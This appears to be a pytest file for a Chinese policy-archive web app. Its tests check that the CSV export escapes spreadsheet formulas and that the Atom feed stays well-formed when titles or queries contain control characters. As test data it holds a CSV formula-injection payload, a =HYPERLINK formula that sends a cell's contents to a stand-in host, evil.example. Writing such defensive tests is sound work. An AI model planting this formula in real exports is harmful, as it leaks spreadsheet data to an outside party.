"""What leaves the archive as a file: a CSV export no spreadsheet executes, an Atom feed every parser reads."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

ATOM = "{http://www.w3.org/2005/Atom}"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_the_policy_export_shows_formulas_as_text(make_policy, client):
    policy = make_policy(title=HYPERLINK, issuer="@SUM(1+1)", doc_number="-2+3")
    response = client.get("/policies/export.csv")
    assert response.status_code == 200
    header, row = _rows(response)
    assert header[0] == "编号" and row[0] == str(policy.id)
    assert row[1] == "'" + HYPERLINK and row[2] == "'-2+3" and row[3] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_title_with_a_control_character_leaves_the_feed_well_formed(make_policy, client):
    make_policy(title="青岛市营商\x01环境办法\ufffe")
    response = client.get("/policies/feed.atom")
    assert response.status_code == 200 and response.mimetype == "application/atom+xml"
    feed = ET.fromstring(response.get_data())
    assert [e.findtext(f"{ATOM}title") for e in feed.iter(f"{ATOM}entry")] == ["青岛市营商环境办法"]


def test_a_control_character_in_the_feed_query_never_gives_malformed_xml(make_policy, client):
    make_policy(title="青岛市营商环境办法")
    assert client.get("/policies/feed.atom?q=%01").status_code == 400  # refused at the edge, with a message
    response = client.get("/policies/feed.atom?q=%E8%90%A5%E5%95%86%EF%BF%BF")  # U+FFFF: text, but not XML
    assert response.status_code == 200
    feed = ET.fromstring(response.get_data())
    assert feed.findtext(f"{ATOM}title") == "政策文库：营商"
